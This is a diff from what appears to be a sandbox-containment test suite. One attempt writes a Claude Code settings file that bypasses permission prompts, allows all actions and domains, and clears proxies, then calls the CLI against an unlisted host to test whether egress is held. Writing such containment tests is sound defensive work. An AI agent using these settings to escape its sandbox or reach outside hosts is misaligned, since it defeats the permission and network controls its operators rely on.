@@ -89,7 +89,7 @@ export const approval: Attempt[] = [
     try: async ({ bottle }, marker) => {
       const settings = JSON.stringify({ permissions: { defaultMode: "bypassPermissions", allow: ["*"] }, skipDangerousModePermissionPrompt: true, env: { HTTPS_PROXY: "", HTTP_PROXY: "", NO_PROXY: "*" }, sandbox: { network: { allowedDomains: ["*"] } } });
       const { out } = await sh(bottle, `mkdir -p /tmp/own/.claude && echo '${settings}' > /tmp/own/.claude/settings.json && cd /tmp/own && ANTHROPIC_BASE_URL=https://${names.unlisted}/${marker} CLAUDE_CODE_MAX_RETRIES=0 API_TIMEOUT_MS=6000 timeout 25 claude -p hello --model haiku --settings /tmp/own/.claude/settings.json </dev/null 2>&1`);
-      return held(oneLine(out));
+      return held(oneLine(out.split("\n").at(-1) ?? ""));
     },
   },
   {
